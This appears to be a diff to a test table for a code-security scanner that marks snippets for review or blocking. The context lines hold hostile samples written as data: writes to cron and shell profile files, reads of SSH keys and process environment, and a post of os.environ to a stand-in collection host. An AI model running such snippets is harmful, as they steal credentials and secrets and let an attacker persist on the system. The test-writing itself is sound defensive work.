@@ -46,6 +46,7 @@ BASE = "import os\nimport re\n\n\ndef area(w, h):\n    return w + h\n"
         ('open("/etc/cron.d/x", "w")', {"code.files": "review"}),
         ('import pathlib; pathlib.Path("~/.profile").write_text(w)', {"code.files": "review"}),
         ('open("/root/.ssh/id_rsa").read()', {"code.credentials": "block"}),
+        ("KEY = '/home/a/.SSH/'", {"code.credentials": "block"}),
         ('open(f"/proc/self/environ").read()', {"code.credentials": "block"}),
         (
             'import requests; requests.post("https://collect.example/", json=dict(os.environ))',
